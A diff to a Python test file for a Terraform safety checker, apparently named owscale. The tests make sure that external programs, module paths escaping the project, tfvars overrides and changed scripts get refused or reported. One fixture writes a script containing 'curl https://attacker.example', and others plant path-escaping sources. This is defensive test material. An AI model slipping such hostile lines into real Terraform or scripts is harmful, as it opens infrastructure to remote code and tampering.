@@ -10,7 +10,7 @@ from owscale.cli.output import Output
 from owscale.errors import OwscaleError
 from owscale.workflow.project import ProjectPaths
 from tests._support.project import ROOT, Project
-from tests._support.repository import commit, git, write_custom_file
+from tests._support.repository import commit, write_custom_file
 
 PROGRAM = 'data "external" "x" {\n  program = ["sh", "${path.module}/run.sh"]\n}\n'
 NAMED = f'{ROOT}/own.tf:3: data "external" "x" runs a program in every plan'
@@ -124,18 +124,49 @@ def test_own_terraform_that_runs_nothing_needs_no_base(git_project: Project) -> 
 
 
 @pytest.mark.usefixtures("terraform")
-@pytest.mark.parametrize("name", [".terraform/modules/modules.json", ".terraform", "terraform.tfstate"])
-def test_data_of_terraform_in_git_is_refused(git_project: Project, name: str) -> None:
-    """`modules.json` can replace a generated module by another directory, which no check examines."""
-    git_project.generate()
-    (git_project.root / ".terraform/modules").mkdir(parents=True)
-    (git_project.root / ".terraform/modules/modules.json").write_text('{"Modules": []}')
-    (git_project.root / "terraform.tfstate").symlink_to("/dev/zero")
+@pytest.mark.parametrize(
+    ("text", "file", "reason"),
+    [
+        ('module "x" {\n  source = "../../../shared"\n}\n', "own.tf", r"shared.*to which own.tf has a path"),
+        (PROGRAM, "run.sh", r"to which run.sh has a path, since main"),
+    ],
+)
+def test_known_construct_with_a_path_to_other_folders_is_refused(
+    hostile_project: Project, text: str, file: str, reason: str
+) -> None:
+    """A pull request can change what is there, and nobody compares it."""
+    write_custom_file(hostile_project, text)
+    if file == "run.sh":
+        (hostile_project.spec.parent / "extra/run.sh").write_text('exec "$(dirname "$0")/../../../tool"\n')
+    hostile_project.generate()
+    commit()
+    with pytest.raises(OwscaleError, match=reason):
+        require_known("main")
+    require_known("main", accepted=True)
+
+
+@pytest.mark.usefixtures("terraform")
+def test_changed_program_counts_whatever_its_name(hostile_project: Project) -> None:
+    (hostile_project.root / "run.terraform").write_text("echo {}\n")
+    commit()
     require_known("main")
-    if name == ".terraform":
-        (git_project.root / name).rename(git_project.root / "elsewhere")
-        (git_project.root / name).symlink_to("elsewhere")
-    git("add", "--force", f"{ROOT}/{name}")
-    for accepted in (False, True):
-        with pytest.raises(OwscaleError, match=r"terraform[.a-z]*: is in git"):
-            require_known("main", accepted=accepted)
+    (hostile_project.root / "run.terraform").write_text("curl https://attacker.example\n")
+    with pytest.raises(OwscaleError, match=r"may use run.terraform, which is new or changed since main"):
+        require_known("main")
+
+
+@pytest.mark.parametrize(
+    ("file", "text", "message"),
+    [
+        ("terraform.tfvars", 'aws_profile = "other"\n', "aws_profile is set in place of the spec"),
+        ("x.auto.tfvars.json", '{"aws_profile": ""}', "aws_profile is set in place of the spec"),
+        ("tests/x.tftest.hcl", "", "is a test, whose modules and providers `terraform init` downloads"),
+    ],
+)
+def test_check_names_other_files_that_terraform_reads(project: Project, file: str, text: str, message: str) -> None:
+    project.generate()
+    (project.root / file).parent.mkdir(exist_ok=True)
+    (project.root / file).write_text(text)
+    assert project.run("check") == 0
+    assert f"{ROOT}/{file}:" in project.stdout
+    assert message in project.stdout
